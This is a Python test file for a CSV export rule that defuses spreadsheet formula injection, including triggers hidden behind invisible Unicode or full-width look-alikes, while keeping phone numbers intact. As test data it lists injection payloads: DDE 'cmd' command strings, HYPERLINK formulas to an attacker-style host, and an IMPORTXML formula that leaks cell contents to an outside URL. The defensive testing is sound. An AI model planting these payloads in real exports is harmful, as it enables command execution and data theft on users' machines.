"""The formula rule for triggers hidden behind invisible characters or written as look-alikes
(the rule and what spreadsheets were seen to do are in `exports/downloads/formulas.py`).
"""

from __future__ import annotations

import sys
import unicodedata

import pytest

from exports.downloads import base
from exports.downloads.formulas import (
    INVISIBLE,
    LOOK_ALIKE_TRIGGERS,
    neutralise,
    neutralise_row,
)

HIDING = [
    "\u200b",  # zero-width space
    "\ufeff",  # byte-order mark (zero-width no-break space)
    "\u2060",  # word joiner
    "\u200c",  # zero-width non-joiner
    "\u200d",  # zero-width joiner
    "\u200e",  # left-to-right mark
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u00ad",  # soft hyphen
    "\u180e",  # Mongolian vowel separator
    "\u061c",  # Arabic letter mark
    "\U000e0041",  # tag latin capital letter A
    " ",
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u2028",  # line separator
    "\n",
    "\x0b",
    "\u200b\ufeff \u2060",  # several
]
PAYLOADS = ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("hiding", HIDING)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_trigger_behind_invisible_characters_is_neutralised(hiding, payload):
    assert neutralise(hiding + payload) == "'" + hiding + payload


@pytest.mark.parametrize("look_alike", sorted(LOOK_ALIKE_TRIGGERS))
def test_a_look_alike_trigger_is_neutralised(look_alike):
    for cell in (look_alike + "1+1", look_alike + 'HYPERLINK("http://evil.example")'):
        assert neutralise(cell) == "'" + cell
        assert neutralise("\u200b" + cell) == "'\u200b" + cell


def test_full_width_formulas_are_neutralised():
    full_width_formula = "".join(chr(ord(ch) + 0xFEE0) for ch in "=HYPERLINK(1)")
    for cell in ("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", full_width_formula):
        assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "\u200bAda Lovelace",
        " Ada",
        "\u00a0Smith",
        "\ufeffzoe@example.com",
        "\u200f\u0645\u062d\u0645\u062f",  # a right-to-left mark before an Arabic name
        "\u2212" + "1+1",  # the minus sign is no operator to a spreadsheet
        "\u2013 Jr",  # an en dash
        "\uff21\uff22\uff23",  # full-width letters
        "\u200b",
        "\u200b\u200b",
        "'=already neutralised",
    ],
)
def test_invisible_or_full_width_characters_before_no_trigger_change_nothing(cell):
    assert neutralise(cell) is cell


@pytest.mark.parametrize(
    "cell",
    [
        "\u200b+1 415 555 0100",
        "\ufeff+442079460958",
        # full-width digits too
        "\uff0b\uff11 \uff14\uff11\uff15 \uff15\uff15\uff15 \uff10\uff11\uff10\uff10",
        "\u2060+1-415-555-0164 ext. 43",
    ],
)
def test_a_plain_phone_number_behind_invisible_characters_or_in_full_width_is_kept(cell):
    assert neutralise(cell) is cell


def test_a_hidden_trigger_makes_the_row_be_neutralised_and_a_plain_row_is_not_copied():
    plain = ["\u200bAda", "ada@example.com", "+1 415 555 0100"]
    assert neutralise_row(plain) is plain
    risky = ["Ada", "\u200b=1+2", "\uff20SUM(A1)"]
    assert neutralise_row(risky) == ["Ada", "'\u200b=1+2", "'\uff20SUM(A1)"]


def test_every_csv_cell_goes_through_the_rule():
    rows = [["\ufeff=1+2", "\uff1dHYPERLINK(1)", "\u200b+1 415 555 0100"]]
    body = b"".join(base.csv_chunks(["name", "email", "phone"], iter(rows))).decode()
    assert body == "name,email,phone\r\n'\ufeff=1+2,'\uff1dHYPERLINK(1),\u200b+1 415 555 0100\r\n"


def test_the_look_alikes_are_every_character_nfkc_folds_to_an_operator():
    operators = {"=", "+", "-", "@"}
    folded = {
        chr(code)
        for code in range(sys.maxunicode + 1)
        if chr(code) not in operators and unicodedata.normalize("NFKC", chr(code)) in operators
    }
    assert folded == LOOK_ALIKE_TRIGGERS


def test_the_invisible_characters_are_unicodes_format_control_and_separator_characters():
    categories = {"Cf", "Cc", "Zs", "Zl", "Zp"}
    expected = {
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in categories
    }
    assert expected == INVISIBLE


# --- the rule on single cells and rows -------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1 415 555 0100", "+1 415 555 0100"),
        ("(415) 555-0100", "(415) 555-0100"),
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        # Extensions and E.164: no formula can be built from them either.
        ("+1-415-555-0164 ext. 43", "+1-415-555-0164 ext. 43"),
        ("+1 415 555 0164 ext 43", "+1 415 555 0164 ext 43"),
        ("+1 415 555 0164 x43", "+1 415 555 0164 x43"),
        ("+1 415 555 0164 #43", "+1 415 555 0164 #43"),
        ("+14155550164", "+14155550164"),
        ("+14155550164 ext. 43", "+14155550164 ext. 43"),
        ("+33 1/55.55.01.00", "+33 1/55.55.01.00"),
        ("+14155550100 ::: +442079460958", "+14155550100 ::: +442079460958"),  # Google's list
        ("+14155550100 ::: =1+1", "'+14155550100 ::: =1+1"),
        # OWASP's CSV-injection payloads, and look-alikes of a phone number.
        ("=1+2", "'=1+2"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        (
            '=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
            '\'=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
        ),
        ("+1+1", "'+1+1"),
        ("-1-1", "'-1-1"),
        ("+1 415 555 0164 ext. A1", "'+1 415 555 0164 ext. A1"),
        ("+1 415\t555", "'+1 415\t555"),
        ("+1 415 555 0164\nx43", "'+1 415 555 0164\nx43"),
        ("+", "'+"),
        # Digits other than ASCII ones are no phone number: only 0-9 are.
        ("+\u0664\u0664\u0662", "'+\u0664\u0664\u0662"),
        ("+4\u00b2", "'+4\u00b2"),
        ("-442079460958", "'-442079460958"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("ada+news@example.com", "ada+news@example.com"),
        ("李小龙", "李小龙"),
        ("", ""),
    ],
)
def test_neutralise_defuses_formulas_but_keeps_phone_numbers(cell, expected):
    assert neutralise(cell) == expected


def test_neutralise_row_neutralises_every_cell_and_copies_only_rows_that_change():
    plain = ("Ada Lovelace", "ada@example.com", "+1 415 555 0100", "+14155550100")
    assert neutralise_row(plain) is plain
    risky = ("=1+2", "ada@example.com", "+1 415 555 0100", "@SUM(A1)")
    assert neutralise_row(risky) == [neutralise(cell) for cell in risky]
    assert neutralise_row(risky) == ["'=1+2", "ada@example.com", "+1 415 555 0100", "'@SUM(A1)"]
